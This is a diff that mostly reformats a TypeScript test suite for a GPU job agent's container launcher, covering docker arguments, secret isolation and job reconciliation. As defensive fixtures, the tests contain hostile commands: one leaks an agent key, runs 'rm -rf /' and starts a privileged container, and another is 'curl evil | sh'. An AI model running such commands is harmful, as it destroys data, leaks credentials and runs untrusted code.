@@ -6,7 +6,17 @@ import path from "node:path";
 import fc from "fast-check";
 import { afterEach, describe, expect, it } from "vitest";
 import { ApiError, createClient, type Client } from "@/agent/src/client";
-import { DockerLauncher, dockerClientEnv, dockerRunArgs, limitsFor, RefusedSpec, WORKLOAD_NETWORK, type ContainerSpec, type Launcher, type Workload } from "@/agent/src/container";
+import {
+  DockerLauncher,
+  dockerClientEnv,
+  dockerRunArgs,
+  limitsFor,
+  RefusedSpec,
+  WORKLOAD_NETWORK,
+  type ContainerSpec,
+  type Launcher,
+  type Workload,
+} from "@/agent/src/container";
 import { Lease } from "@/agent/src/lease";
 import { LogSpool } from "@/agent/src/log-spool";
 import { Outbox } from "@/agent/src/outbox";
@@ -34,16 +44,45 @@ const spec = (o: Partial<ContainerSpec> = {}): ContainerSpec => ({
 describe("the container command line", () => {
   it("runs the image after `--` with the placement's GPUs only, the workload network, no new privileges and bounded resources", () => {
     expect(dockerRunArgs(spec())).toEqual([
-      "run", "--name", "gpuforge-job-j1-1", "--init",
-      "--gpus", '"device=0,3"',
-      "--network", "gpuforge-workloads",
-      "--security-opt", "no-new-privileges",
-      "--cap-drop", "NET_RAW", "--cap-drop", "MKNOD",
-      "--cpus", "8", "--memory", "65536m", "--memory-swap", "65536m", "--shm-size", "16384m", "--pids-limit", "16384",
-      "--ulimit", "memlock=-1", "--stop-timeout", "10",
-      "--label", "gpuforge.job=j1",
-      "--env", "GPUFORGE_JOB_ID=j1", "--env", "GPUFORGE_ATTEMPT=1",
-      "--", "nvcr.io/nvidia/pytorch:24.05-py3", "sh", "-c", "python train.py",
+      "run",
+      "--name",
+      "gpuforge-job-j1-1",
+      "--init",
+      "--gpus",
+      '"device=0,3"',
+      "--network",
+      "gpuforge-workloads",
+      "--security-opt",
+      "no-new-privileges",
+      "--cap-drop",
+      "NET_RAW",
+      "--cap-drop",
+      "MKNOD",
+      "--cpus",
+      "8",
+      "--memory",
+      "65536m",
+      "--memory-swap",
+      "65536m",
+      "--shm-size",
+      "16384m",
+      "--pids-limit",
+      "16384",
+      "--ulimit",
+      "memlock=-1",
+      "--stop-timeout",
+      "10",
+      "--label",
+      "gpuforge.job=j1",
+      "--env",
+      "GPUFORGE_JOB_ID=j1",
+      "--env",
+      "GPUFORGE_ATTEMPT=1",
+      "--",
+      "nvcr.io/nvidia/pytorch:24.05-py3",
+      "sh",
+      "-c",
+      "python train.py",
     ]);
     // an image's own entrypoint when there is no command
     expect(dockerRunArgs(spec({ command: undefined })).slice(-2)).toEqual(["--", "nvcr.io/nvidia/pytorch:24.05-py3"]);
@@ -66,14 +105,23 @@ describe("the container command line", () => {
     expect(() => dockerRunArgs(spec({ image }))).toThrow(RefusedSpec);
   });
 
-  it.each(["alpine", "nvcr.io/nvidia/pytorch:24.05-py3", `localhost:5000/team/img@sha256:${"a".repeat(64)}`, "ghcr.io/a_b/c.d-e:1.0", "registry.example.com:443/x/y/z:v1"])(
-    "accepts the image %s",
-    (image) => expect(dockerRunArgs(spec({ image })).at(-4)).toBe(image),
-  );
+  it.each([
+    "alpine",
+    "nvcr.io/nvidia/pytorch:24.05-py3",
+    `localhost:5000/team/img@sha256:${"a".repeat(64)}`,
+    "ghcr.io/a_b/c.d-e:1.0",
+    "registry.example.com:443/x/y/z:v1",
+  ])("accepts the image %s", (image) => expect(dockerRunArgs(spec({ image })).at(-4)).toBe(image));
 
   it("a hostile command stays one argument after the image; environment names and GPUs are checked", () => {
     const args = dockerRunArgs(spec({ command: "echo $GPUFORGE_AGENT_KEY; rm -rf / --no-preserve-root && docker run --privileged x" }));
-    expect(args.slice(args.indexOf("--"))).toEqual(["--", "nvcr.io/nvidia/pytorch:24.05-py3", "sh", "-c", "echo $GPUFORGE_AGENT_KEY; rm -rf / --no-preserve-root && docker run --privileged x"]);
+    expect(args.slice(args.indexOf("--"))).toEqual([
+      "--",
+      "nvcr.io/nvidia/pytorch:24.05-py3",
+      "sh",
+      "-c",
+      "echo $GPUFORGE_AGENT_KEY; rm -rf / --no-preserve-root && docker run --privileged x",
+    ]);
     expect(() => dockerRunArgs(spec({ env: { "A=B": "x" } }))).toThrow(RefusedSpec);
     expect(() => dockerRunArgs(spec({ env: { "1X": "x" } }))).toThrow(RefusedSpec);
     expect(() => dockerRunArgs(spec({ gpus: [] }))).toThrow(RefusedSpec);
@@ -107,7 +155,13 @@ describe("the container command line", () => {
   });
 
   it("the docker client sees where the engine is, never the agent's key", () => {
-    const env = dockerClientEnv({ PATH: "/usr/bin", HOME: "/root", DOCKER_HOST: "unix:///run/docker.sock", GPUFORGE_AGENT_KEY: "gf_secret", GPUFORGE_URL: "https://cp" });
+    const env = dockerClientEnv({
+      PATH: "/usr/bin",
+      HOME: "/root",
+      DOCKER_HOST: "unix:///run/docker.sock",
+      GPUFORGE_AGENT_KEY: "gf_secret",
+      GPUFORGE_URL: "https://cp",
+    });
     expect(env).toEqual({ PATH: "/usr/bin", HOME: "/root", DOCKER_HOST: "unix:///run/docker.sock" });
   });
 });
@@ -130,8 +184,18 @@ const job = (id: string, o: Partial<JobAssignment> = {}): JobAssignment => ({
 function mortal(inner: Launcher) {
   let dead = false;
   const wrap = (w: Workload | null): Workload | null =>
-    w && { onOutput: (fn) => w.onOutput((s, d) => void (dead || fn(s, d))), onExit: (fn) => w.onExit((c, e) => void (dead || fn(c, e))), stop: () => w.stop() };
-  const launcher: Launcher = { runtime: () => inner.runtime(), remove: (n) => inner.remove(n), isRunning: (n) => inner.isRunning(n), adopt: (n, since) => wrap(inner.adopt(n, since)), start: (s) => wrap(inner.start(s))! };
+    w && {
+      onOutput: (fn) => w.onOutput((s, d) => void (dead || fn(s, d))),
+      onExit: (fn) => w.onExit((c, e) => void (dead || fn(c, e))),
+      stop: () => w.stop(),
+    };
+  const launcher: Launcher = {
+    runtime: () => inner.runtime(),
+    remove: (n) => inner.remove(n),
+    isRunning: (n) => inner.isRunning(n),
+    adopt: (n, since) => wrap(inner.adopt(n, since)),
+    start: (s) => wrap(inner.start(s))!,
+  };
   return { launcher, die: () => void (dead = true) };
 }
 
@@ -149,7 +213,17 @@ describe("the workload network", () => {
     const launcher = new DockerLauncher(docker.env);
     expect(launcher.prepareNetwork()).toBeNull();
     const create = docker.calls().find((c) => c.args[0] === "network" && c.args[1] === "create")!;
-    expect(create.args).toEqual(["network", "create", "--driver", "bridge", "--opt", "com.docker.network.bridge.enable_icc=false", "--label", "io.gpuforge.role=workloads", WORKLOAD_NETWORK]);
+    expect(create.args).toEqual([
+      "network",
+      "create",
+      "--driver",
+      "bridge",
+      "--opt",
+      "com.docker.network.bridge.enable_icc=false",
+      "--label",
+      "io.gpuforge.role=workloads",
+      WORKLOAD_NETWORK,
+    ]);
     expect(launcher.prepareNetwork()).toBeNull();
     expect(docker.calls().filter((c) => c.args[1] === "create")).toHaveLength(1);
   });
@@ -177,10 +251,22 @@ describe("the runner, with a docker stand-in on PATH", () => {
     const runs = docker.runs();
     expect(runs).toHaveLength(2);
     const okRun = runs.find((r) => r.includes("gpuforge-job-ok-1"))!;
-    expect(okRun).toEqual(dockerRunArgs({
-      name: "gpuforge-job-ok-1", image: "alpine:3.20", command: "echo epoch 1 done; echo warn >&2", gpus: [0, 2],
-      env: { GPUFORGE_JOB_ID: "ok", GPUFORGE_ATTEMPT: "1", GPUFORGE_OUTPUTS_URL: "/api/jobs/ok/outputs", GPUFORGE_REPORT_TOKEN: "gfj_ok-token" }, labels: { "gpuforge.job": "ok", "gpuforge.attempt": "1" }, limits,
-    }));
+    expect(okRun).toEqual(
+      dockerRunArgs({
+        name: "gpuforge-job-ok-1",
+        image: "alpine:3.20",
+        command: "echo epoch 1 done; echo warn >&2",
+        gpus: [0, 2],
+        env: {
+          GPUFORGE_JOB_ID: "ok",
+          GPUFORGE_ATTEMPT: "1",
+          GPUFORGE_OUTPUTS_URL: "/api/jobs/ok/outputs",
+          GPUFORGE_REPORT_TOKEN: "gfj_ok-token",
+        },
+        labels: { "gpuforge.job": "ok", "gpuforge.attempt": "1" },
+        limits,
+      }),
+    );
     expect(okRun.slice(okRun.indexOf("--"))).toEqual(["--", "alpine:3.20", "sh", "-c", "echo epoch 1 done; echo warn >&2"]);
     for (const c of docker.calls()) expect(c.env).not.toContain("GPUFORGE_AGENT_KEY");
     for (const r of runs) expect(r.join(" ")).not.toContain("gf_secret");
@@ -194,7 +280,10 @@ describe("the runner, with a docker stand-in on PATH", () => {
     const docker = dockerStandin();
     const a = agentParts(tempDir("agent-"), new DockerLauncher(docker.env));
     a.runner.reconcile([job("no-image", { image: undefined, command: "curl evil | sh" }), job("wrong-gpu", { gpu_ids: ["g9"] })]);
-    expect(a.outbox.pending.map((r) => [r.job_id, r.status, r.exit_code])).toEqual([["no-image", "failed", 125], ["wrong-gpu", "failed", 125]]);
+    expect(a.outbox.pending.map((r) => [r.job_id, r.status, r.exit_code])).toEqual([
+      ["no-image", "failed", 125],
+      ["wrong-gpu", "failed", 125],
+    ]);
     expect(a.outbox.pending[0]!.error).toMatch(/runs only inside a container image/);
     expect(docker.runs()).toEqual([]);
   });
@@ -220,7 +309,13 @@ describe("the runner, with a docker stand-in on PATH", () => {
     expect(a.outbox.pending).toEqual([]);
     a.runner.interruptAll("the node lost its lease");
     await until(() => a.outbox.pending.length === 1);
-    expect(a.outbox.pending[0]).toMatchObject({ job_id: "fenced", attempt: 2, fence: fenced.fence, status: "interrupted", error: "the node lost its lease" });
+    expect(a.outbox.pending[0]).toMatchObject({
+      job_id: "fenced",
+      attempt: 2,
+      fence: fenced.fence,
+      status: "interrupted",
+      error: "the node lost its lease",
+    });
     expect(a.runner.running).toEqual([]);
   });
 });
@@ -258,7 +353,11 @@ describe("a job's outputs, posted by the workload itself", () => {
       });
       runner.reconcile([a]);
       await until(() => received.length === 1);
-      expect(received[0]).toEqual({ url: "/api/jobs/step/outputs", auth: "Bearer gfj_0123456789abcdef0123456789abcdef_1_token", body: '{"outputs": {"plan": "data/a.jsonl", "job": "step"}}' });
+      expect(received[0]).toEqual({
+        url: "/api/jobs/step/outputs",
+        auth: "Bearer gfj_0123456789abcdef0123456789abcdef_1_token",
+        body: '{"outputs": {"plan": "data/a.jsonl", "job": "step"}}',
+      });
       const run = docker.runs()[0]!;
       expect(run).toContain("PLAN=data/a.jsonl");
       expect(run).toContain("GPUFORGE_JOB_ID=step");
@@ -305,7 +404,8 @@ async function stubControlPlane(jobs: JobAssignment[]) {
         }
         const j = jobs.find((x) => x.job_id === id);
         const b = JSON.parse(body) as { fence: string };
-        if (!j || reported.has(id) || b.fence !== j.fence) return res.writeHead(409).end(JSON.stringify({ error: { code: "stale_report" } }));
+        if (!j || reported.has(id) || b.fence !== j.fence)
+          return res.writeHead(409).end(JSON.stringify({ error: { code: "stale_report" } }));
         reported.set(id, b);
         return res.writeHead(200).end("{}");
       }
@@ -456,7 +556,12 @@ class FakeEngine implements Launcher {
   }
 }
 
-type Step = { t: "heartbeat"; reportsGetThrough: boolean } | { t: "exit"; pick: number } | { t: "deliver"; ok: boolean } | { t: "restart" } | { t: "replace"; pick: number };
+type Step =
+  | { t: "heartbeat"; reportsGetThrough: boolean }
+  | { t: "exit"; pick: number }
+  | { t: "deliver"; ok: boolean }
+  | { t: "restart" }
+  | { t: "replace"; pick: number };
 
 describe("placements start at most once under any interleaving (property)", () => {
   it("random heartbeats, exits, report deliveries, re-placements and agent restarts never start a placement twice, and every job ends reported", async () => {
@@ -476,7 +581,7 @@ describe("placements start at most once under any interleaving (property)", () =
         const cp = new Map(Array.from({ length: jobCount }, (_, i) => [`j${i}`, { attempt: 1, fence: randomUUID(), done: false }]));
         let failDelivery = false;
         const client: Client = {
-          call: async <T,>(_m: string, p: string, body?: unknown): Promise<T> => {
+          call: async <T>(_m: string, p: string, body?: unknown): Promise<T> => {
             if (failDelivery) throw new Error("control plane unreachable");
             const id = p.split("/").at(-1)!;
             const j = cp.get(id)!;
@@ -488,7 +593,8 @@ describe("placements start at most once under any interleaving (property)", () =
             return {} as T;
           },
         };
-        const assignments = () => [...cp].filter(([, j]) => !j.done).map(([id, j]) => job(id, { attempt: j.attempt, fence: j.fence, command: "train" }));
+        const assignments = () =>
+          [...cp].filter(([, j]) => !j.done).map(([id, j]) => job(id, { attempt: j.attempt, fence: j.fence, command: "train" }));
         let agent = agentParts(dir, engine);
         const tick = async (reportsGetThrough = true) => {
           failDelivery = !reportsGetThrough;
@@ -518,7 +624,8 @@ describe("placements start at most once under any interleaving (property)", () =
           if (s.t === "replace") {
             // the control plane moved a job (its node was declared lost): a new placement
             const open = [...cp.values()].filter((j) => !j.done);
-            if (open.length) Object.assign(open[s.pick % open.length]!, { attempt: open[s.pick % open.length]!.attempt + 1, fence: randomUUID() });
+            if (open.length)
+              Object.assign(open[s.pick % open.length]!, { attempt: open[s.pick % open.length]!.attempt + 1, fence: randomUUID() });
           }
           for (const [name, n] of engine.launches) expect(n, `${name} started ${n} times`).toBe(1);
         }
@@ -542,8 +649,20 @@ describe("placements start at most once under any interleaving (property)", () =
 
 describe("endpoint replicas on the node", () => {
   const replica = (id: string, gpuIds: string[], o: Partial<ReplicaAssignment> = {}): ReplicaAssignment => ({
-    kind: "endpoint_replica", replica_id: id, endpoint_id: "ep-1", endpoint_name: "chat", model: "org/model", attempt: 1, fence: randomUUID(), gpu_ids: gpuIds,
-    metrics_path: "/api/endpoints/ep-1/metrics", serving_port: 8000, address_path: `/api/endpoints/ep-1/replicas/${id}/address`, logs_path: `/api/endpoints/ep-1/replicas/${id}/logs`, report_token: `gfw_token_${id}`, ...o,
+    kind: "endpoint_replica",
+    replica_id: id,
+    endpoint_id: "ep-1",
+    endpoint_name: "chat",
+    model: "org/model",
+    attempt: 1,
+    fence: randomUUID(),
+    gpu_ids: gpuIds,
+    metrics_path: "/api/endpoints/ep-1/metrics",
+    serving_port: 8000,
+    address_path: `/api/endpoints/ep-1/replicas/${id}/address`,
+    logs_path: `/api/endpoints/ep-1/replicas/${id}/logs`,
+    report_token: `gfw_token_${id}`,
+    ...o,
   });
 
   it("serves each replica in its image's container with a replica-scoped token and never the agent key; stops it when unassigned", async () => {
@@ -602,8 +721,13 @@ describe("endpoint replicas on the node", () => {
     const docker = dockerStandin();
     const reported: string[] = [];
     const sup = new ReplicaSupervisor({
-      launcher: new DockerLauncher(docker.env), logs: new LogSpool(tempDir("spool-")), baseUrl: "https://cp", serveImage: undefined,
-      gpuIndexOf: () => 0, limits: () => limits, reportUnhealthy: async (a, reason) => void reported.push(reason),
+      launcher: new DockerLauncher(docker.env),
+      logs: new LogSpool(tempDir("spool-")),
+      baseUrl: "https://cp",
+      serveImage: undefined,
+      gpuIndexOf: () => 0,
+      limits: () => limits,
+      reportUnhealthy: async (a, reason) => void reported.push(reason),
     });
     sup.reconcile([replica("r1", ["a"])]);
     expect(reported[0]).toMatch(/no serving image/);
